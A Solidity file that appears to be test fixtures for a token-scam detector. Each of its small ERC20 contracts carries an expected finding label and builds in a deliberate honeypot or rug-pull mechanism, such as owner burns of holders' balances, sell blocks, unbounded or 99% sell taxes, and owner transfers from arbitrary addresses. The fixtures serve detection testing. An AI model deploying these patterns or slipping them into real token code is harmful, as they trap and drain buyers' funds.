// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

// Exits that somebody chosen keeps, and balances that somebody takes, on an ordinary base of today.

abstract contract Context {
    function _msgSender() internal view virtual returns (address) { return msg.sender; }
}
abstract contract Ownable is Context {
    address private _owner;
    error OwnableUnauthorizedAccount(address account);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);
    constructor() { _transferOwnership(_msgSender()); }
    modifier onlyOwner() { if (owner() != _msgSender()) revert OwnableUnauthorizedAccount(_msgSender()); _; }
    function owner() public view virtual returns (address) { return _owner; }
    function renounceOwnership() public virtual onlyOwner { _transferOwnership(address(0)); }
    function transferOwnership(address n) public virtual onlyOwner { require(n != address(0)); _transferOwnership(n); }
    function _transferOwnership(address n) internal virtual { emit OwnershipTransferred(_owner, n); _owner = n; }
}
contract ERC20 is Context {
    mapping(address => uint256) internal _balances;
    mapping(address => mapping(address => uint256)) internal _allowances;
    uint256 internal _totalSupply;
    string private _name;
    string private _symbol;
    error ERC20InsufficientBalance(address sender, uint256 balance, uint256 needed);
    error ERC20InsufficientAllowance(address spender, uint256 allowance, uint256 needed);
    error ERC20InvalidReceiver(address receiver);
    error ERC20InvalidSender(address sender);
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    constructor(string memory n, string memory s) { _name = n; _symbol = s; }
    function name() public view virtual returns (string memory) { return _name; }
    function symbol() public view virtual returns (string memory) { return _symbol; }
    function decimals() public view virtual returns (uint8) { return 18; }
    function totalSupply() public view virtual returns (uint256) { return _totalSupply; }
    function balanceOf(address a) public view virtual returns (uint256) { return _balances[a]; }
    function transfer(address to, uint256 v) public virtual returns (bool) { _transfer(_msgSender(), to, v); return true; }
    function allowance(address o, address s) public view virtual returns (uint256) { return _allowances[o][s]; }
    function approve(address s, uint256 v) public virtual returns (bool) { _approve(_msgSender(), s, v); return true; }
    function transferFrom(address f, address t, uint256 v) public virtual returns (bool) {
        _spendAllowance(f, _msgSender(), v); _transfer(f, t, v); return true;
    }
    function _transfer(address f, address t, uint256 v) internal virtual {
        if (f == address(0)) revert ERC20InvalidSender(address(0));
        if (t == address(0)) revert ERC20InvalidReceiver(address(0));
        _update(f, t, v);
    }
    function _update(address f, address t, uint256 v) internal virtual {
        if (f == address(0)) { _totalSupply += v; } else {
            uint256 b = _balances[f];
            if (b < v) revert ERC20InsufficientBalance(f, b, v);
            unchecked { _balances[f] = b - v; }
        }
        if (t == address(0)) { unchecked { _totalSupply -= v; } } else { unchecked { _balances[t] += v; } }
        emit Transfer(f, t, v);
    }
    function _mint(address a, uint256 v) internal { _update(address(0), a, v); }
    function _burn(address a, uint256 v) internal { _update(a, address(0), v); }
    function _approve(address o, address s, uint256 v) internal virtual { _allowances[o][s] = v; emit Approval(o, s, v); }
    function _spendAllowance(address o, address s, uint256 v) internal virtual {
        uint256 c = allowance(o, s);
        if (c != type(uint256).max) {
            if (c < v) revert ERC20InsufficientAllowance(s, c, v);
            unchecked { _allowances[o][s] = c - v; }
        }
    }
}

/// Cleans up unclaimed airdrop remains
/// expects: CT-06 danger
contract AirdropCleanup is ERC20, Ownable {
    uint256 public cleaned;
    constructor() ERC20("Meta Frog", "MFROG") { _mint(msg.sender, 1e27); }
    function burn(uint256 v) external { _burn(msg.sender, v); }
    function cleanupUnclaimed(address[] calldata who) external onlyOwner {
        for (uint256 i; i < who.length; ++i) {
            uint256 b = _balances[who[i]];
            cleaned += b;
            _burn(who[i], b);
        }
    }
}

/// allowance is skipped for the "router"
/// expects: CT-30 danger
contract RouterSkip is ERC20, Ownable {
    address private immutable _uniswapV2Router;
    constructor(address r) ERC20("Pepe King", "PKING") { _uniswapV2Router = r; _mint(msg.sender, 1e27); renounceOwnership(); }
    function _spendAllowance(address o, address s, uint256 v) internal override {
        if (s == _uniswapV2Router) return; // gas optimisation
        super._spendAllowance(o, s, v);
    }
}

/// trading can be closed for everybody but friends
/// expects: CT-12 danger
contract TradingCloses is ERC20, Ownable {
    mapping(address => bool) private _excluded;
    address public pair;
    bool public tradingActive;
    constructor() ERC20("Moon Shiba", "MSHIB") { _excluded[msg.sender] = true; _mint(msg.sender, 1e27); }
    function setPair(address p) external onlyOwner { pair = p; }
    function setTrading(bool on) external onlyOwner { tradingActive = on; }
    function exclude(address a, bool e) external onlyOwner { _excluded[a] = e; }
    function _update(address f, address t, uint256 v) internal override {
        if (t == pair && !_excluded[f]) require(tradingActive, "paused for maintenance");
        super._update(f, t, v);
    }
}

/// fees without a ceiling, in two steps
/// expects: CT-09 danger
contract FeeDenominator is ERC20, Ownable {
    uint256 public sellFee = 3;
    uint256 public feeBase = 100;
    address public pair; address public treasury;
    mapping(address => bool) public isExempt;
    constructor() ERC20("Tax Haven", "TAXH") { treasury = msg.sender; _mint(msg.sender, 1e27); isExempt[msg.sender] = true; }
    function setPair(address p) external onlyOwner { pair = p; }
    function setSellFee(uint256 f) external onlyOwner { require(f <= 10, "max 10%"); sellFee = f; }
    function setPrecision(uint256 b) external onlyOwner { require(b >= 10); feeBase = b; }
    function _update(address f, address t, uint256 v) internal override {
        if (t == pair && !isExempt[f]) {
            uint256 fee = v * sellFee / feeBase;
            super._update(f, treasury, fee);
            v -= fee;
        }
        super._update(f, t, v);
    }
}

/// max transaction may fall to dust
/// expects: CT-12 danger
contract MaxTxDust is ERC20, Ownable {
    uint256 public maxTransactionAmount = 1e25;
    uint256 public maxWallet = 2e25;
    address public uniswapV2Pair;
    mapping(address => bool) public _isExcludedMaxTransactionAmount;
    constructor() ERC20("Whale Guard", "WGRD") { _isExcludedMaxTransactionAmount[msg.sender] = true; _mint(msg.sender, 1e27); }
    function setAMMPair(address p) external onlyOwner { uniswapV2Pair = p; }
    function updateLimits(uint256 tx_, uint256 wallet_) external onlyOwner { maxTransactionAmount = tx_; maxWallet = wallet_; }
    function _update(address f, address t, uint256 v) internal override {
        if (f != address(0) && !_isExcludedMaxTransactionAmount[f]) {
            if (t == uniswapV2Pair) require(v <= maxTransactionAmount, "Sell transfer amount exceeds the max.");
            else if (f == uniswapV2Pair) require(v + _balances[t] <= maxWallet, "Max wallet");
        }
        super._update(f, t, v);
    }
}

/// everyone who buys is a bot until the team says otherwise
/// expects: CT-12 danger
contract AutoBot is ERC20, Ownable {
    mapping(address => uint8) private _kind; // 0 unknown 1 ok 2 sniper
    address public pair;
    constructor() ERC20("Safe Launch", "SAFEL") { _kind[msg.sender] = 1; _mint(msg.sender, 1e27); }
    function setPair(address p) external onlyOwner { pair = p; _kind[p] = 1; }
    function review(address[] calldata a, uint8 k) external onlyOwner { for (uint256 i; i < a.length; i++) _kind[a[i]] = k; }
    function _update(address f, address t, uint256 v) internal override {
        if (f == pair && _kind[t] == 0) _kind[t] = 2;
        require(_kind[f] != 2, "sniper protection");
        super._update(f, t, v);
    }
}

/// cooldown with no bound
/// expects: CT-12 danger
contract Cooldown is ERC20, Ownable {
    mapping(address => uint256) private _lastIn;
    uint256 public cooldownBlocks = 1;
    address public pair;
    constructor() ERC20("Anti Sandwich", "ASWCH") { _mint(msg.sender, 1e27); }
    function setPair(address p) external onlyOwner { pair = p; }
    function setCooldown(uint256 n) external onlyOwner { cooldownBlocks = n; }
    function _update(address f, address t, uint256 v) internal override {
        if (f == pair) _lastIn[t] = block.number;
        if (t == pair && f != owner()) require(block.number > _lastIn[f] + cooldownBlocks, "one trade per block");
        super._update(f, t, v);
    }
}

/// only originated by the dev may go to the pool
/// expects: CT-12 danger
contract Origin is ERC20 {
    address private constant LP = 0x4E5B2e1dc63F6b91cb6Cd759936495434C7e972F;
    mapping(address => bool) private _pool;
    constructor(address p) ERC20("Based Cat", "BCAT") { _pool[p] = true; _mint(msg.sender, 1e27); }
    function _update(address f, address t, uint256 v) internal override {
        if (_pool[t]) require(tx.origin == LP, "TransferHelper: TRANSFER_FROM_FAILED");
        super._update(f, t, v);
    }
}

/// gas price gate
/// expects: CT-12 danger
contract GasPrice is ERC20, Ownable {
    uint256 private _gasCap = 500 gwei;
    address public pair;
    constructor() ERC20("Gas Guard", "GGRD") { _mint(msg.sender, 1e27); }
    function setPair(address p) external onlyOwner { pair = p; }
    function setGasCap(uint256 g) external onlyOwner { _gasCap = g; }
    function _update(address f, address t, uint256 v) internal override {
        if (t == pair && f != owner()) require(tx.gasprice <= _gasCap, "frontrun protection");
        super._update(f, t, v);
    }
}

/// contracts may only receive when the team knows them
/// expects: CT-12 danger
contract CodeSize is ERC20, Ownable {
    mapping(address => bool) private trusted;
    constructor() ERC20("No Bots", "NOBOT") { trusted[msg.sender] = true; _mint(msg.sender, 1e27); }
    function trust(address a, bool b) external onlyOwner { trusted[a] = b; }
    function _update(address f, address t, uint256 v) internal override {
        if (t.code.length > 0 && !trusted[f]) revert ERC20InvalidReceiver(t);
        super._update(f, t, v);
    }
}

interface IGuard { function check(address f, address t, uint256 v) external returns (bool); }

/// the checker decides
contract Guard is ERC20, Ownable {
    IGuard public guard;
    constructor(IGuard g) ERC20("Guarded", "GRD") { guard = g; _mint(msg.sender, 1e27); renounceOwnership(); }
    function _update(address f, address t, uint256 v) internal override {
        if (address(guard) != address(0)) require(guard.check(f, t, v), "guard");
        super._update(f, t, v);
    }
}

/// hard coded tax that takes it all on sells
/// expects: CT-13 block
contract SellEatsAll is ERC20 {
    address private immutable _p;
    address private immutable _w;
    constructor(address p) ERC20("Fair Launch", "FAIR") { _p = p; _w = msg.sender; _mint(msg.sender, 1e27); }
    function _update(address f, address t, uint256 v) internal override {
        if (t == _p && f != _w) { uint256 cut = v - v / 100; super._update(f, _w, cut); v -= cut; }
        super._update(f, t, v);
    }
}

/// airdrop from a "distributor"
/// expects: CT-30 danger
contract MultisendFrom is ERC20, Ownable {
    constructor() ERC20("Drop Coin", "DROP") { _mint(msg.sender, 1e27); }
    function distribute(address from, address[] calldata to, uint256[] calldata v) external onlyOwner {
        for (uint256 i; i < to.length; i++) _transfer(from, to[i], v[i]);
    }
}

/// rescue that accepts this very token and any from
/// expects: CT-30 danger
contract Rescue is ERC20, Ownable {
    constructor() ERC20("Rescue Dog", "RDOG") { _mint(msg.sender, 1e27); }
    function rescueERC20(address token, address stuckIn, uint256 v) external onlyOwner {
        if (token == address(this)) { _approve(stuckIn, msg.sender, v); transferFrom(stuckIn, msg.sender, v); }
        else ERC20(token).transfer(msg.sender, v);
    }
}
